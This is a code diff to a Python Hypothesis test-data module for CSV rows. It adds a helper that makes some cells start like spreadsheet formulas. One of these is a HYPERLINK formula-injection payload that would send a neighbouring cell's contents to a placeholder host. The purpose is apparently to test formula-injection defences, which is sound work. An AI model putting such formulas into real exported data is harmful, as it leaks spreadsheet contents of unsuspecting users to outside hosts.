@@ -300,6 +300,7 @@ def rows(draw: st.DrawFn, columns: tuple[str, ...]) -> dict[str, str]:
         "currency": st.sampled_from(["", "RUB", "eur", " usd ", "RUBL", "руб", "€", "Us1"]),
     }
     row = {column: _with_control(draw, draw(makers[column])) for column in columns}
+    _with_formula(draw, row)
     if draw(st.integers(0, 60)) == 0:
         row["id"] = HUGE
     return row
@@ -398,3 +399,17 @@ def goal_examples(draw: st.DrawFn) -> GoalExample:
     delimiter = draw(st.sampled_from([",", ";"])) if form == "csv" else ","
     decimal_option = draw(st.sampled_from([None, None, ",", "."]))
     return GoalExample(draw(st.lists(goal_cells(), min_size=1, max_size=6)), form, delimiter, decimal_option)
+
+
+# -- formula-like cells, for the rejects file ----------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _with_formula(draw: st.DrawFn, row: dict[str, str]) -> None:
+    """Now and then start a cell like a spreadsheet formula (``=HYPERLINK(...)``, ``@SUM``, ``-1+1``)."""
+    if draw(st.integers(0, 3)):
+        return
+    column = draw(st.sampled_from(sorted(row)))
+    start = draw(st.sampled_from(FORMULA_STARTS))
+    row[column] = draw(st.sampled_from([f'{start}HYPERLINK("http://x.example/?"&B2)', start + row[column]]))
